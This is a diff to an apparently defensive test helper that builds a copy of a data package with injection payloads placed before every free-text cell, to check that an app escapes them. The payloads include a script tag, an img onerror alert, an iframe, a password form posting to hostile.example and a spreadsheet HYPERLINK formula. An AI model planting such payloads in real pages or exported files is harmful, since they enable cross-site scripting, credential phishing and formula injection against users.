@@ -98,6 +98,7 @@ def metrics(at: AppTest) -> dict[str, str]:
 # Markdown, maths, Streamlit's colour and emoji codes and a bare address. Each part carries
 # HOSTILE so a test can find anything it caused.
 HOSTILE = (
+    '=HYPERLINK("http://hostile.example/","FORMULAHOSTILE")'
     '<script>window.hostile=1</script><img src="http://hostile.example/i.png" onerror="alert(1)" data-hostile="img">'
     '<iframe src="http://hostile.example/" data-hostile="iframe"></iframe>'
     '<form action="http://hostile.example/" data-hostile="form"><input type="password"></form>'
@@ -119,8 +120,8 @@ def free_text_columns(table) -> list[str]:
 
 
 def hostile_package(source: Path, target: Path) -> Path:
-    """A copy of the package at `source` with `HOSTILE` after every free-text cell (place
-    names checked against a province code keep their name first, so they still match)."""
+    """A copy of the package at `source` with `HOSTILE` before every free-text cell (place
+    names checked against a province code are kept, so they still match)."""
     target.mkdir(parents=True, exist_ok=True)
     for table in TABLE_BY_NAME.values():
         rows = read_rows(source, table.name)
@@ -129,6 +130,7 @@ def hostile_package(source: Path, target: Path) -> Path:
             for column in free_text_columns(table):
                 if checked and column == checked[0] and r[checked[1]]:
                     continue
-                r[column] = f"{r[column]} {HOSTILE}" if r[column] else HOSTILE
+                # The payload first, so every text also starts like a spreadsheet formula.
+                r[column] = f"{HOSTILE} {r[column]}".strip()
         write_rows(target, table.name, rows)
     return target
